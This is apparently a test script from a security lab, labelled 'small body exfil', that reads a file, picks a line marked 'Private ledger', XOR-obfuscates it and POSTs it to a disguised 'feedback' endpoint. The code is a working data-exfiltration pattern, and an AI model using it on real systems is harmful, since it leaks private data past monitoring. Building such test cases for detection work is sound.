# lab:title: small body exfil
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: data left
import os, urllib.request
data = open(os.environ["LAB_DATA"]).read()
row = [l for l in data.splitlines() if "Private ledger" in l][0]
body = ".".join(row).encode()[:250]
body = bytes(b ^ 0x55 for b in row.encode())
print("body", len(body))
r = urllib.request.Request(os.environ["LAB_API"] + "feedback", data=body, method="POST")
print(urllib.request.urlopen(r, timeout=3).status)
